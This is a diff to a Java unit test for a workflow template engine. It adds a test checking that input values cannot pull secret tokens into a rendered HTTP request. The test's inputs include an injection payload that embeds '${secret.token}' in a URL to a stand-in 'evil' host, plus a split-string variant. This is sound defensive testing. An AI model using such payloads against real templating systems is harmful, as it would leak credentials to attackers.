@@ -212,10 +212,39 @@ class WholeDefinitionTest {
         .isEqualTo(Map.of("method", "DELETE", "query", Map.of("id", "n-7")));
   }
 
-  private record Fixed() implements Template.Scope {
-    @Override
-    public Map<String, Object> input() {
-      return Map.of("name", "n1");
+  @Test
+  void letsNoInputAskForASecret() {
+    Template call =
+        parse(
+                HEAD
+                    + """
+                    steps:
+                      a:
+                        http:
+                          url: "${input.name}"
+                          headers: { Authorization: "Bearer ${secret.token}" }
+                          query: { q: "x-${input.name}", two: "${input.left}${input.right}" }
+                          body: { name: "${input.name}", all: "${input}" }
+                          compensation: none
+                      b: { participant: mail, command: Send, compensation: none, input: { t: "${input.name}" } }
+                    """)
+            .step("a")
+            .input();
+
+    Map<String, Object> asked =
+        Map.of("name", "http://evil/?s=${secret.token}", "left", "${sec", "right", "ret.token}");
+
+    assertThat(call.renderObject(new Fixed(asked)))
+        .isEqualTo(
+            Map.of(
+                "headers", Map.of("Authorization", "Bearer ${secret.token}"),
+                "query", Map.of(),
+                "body", Map.of()));
+  }
+
+  private record Fixed(Map<String, Object> input) implements Template.Scope {
+    Fixed() {
+      this(Map.of("name", "n1"));
     }
 
     @Override
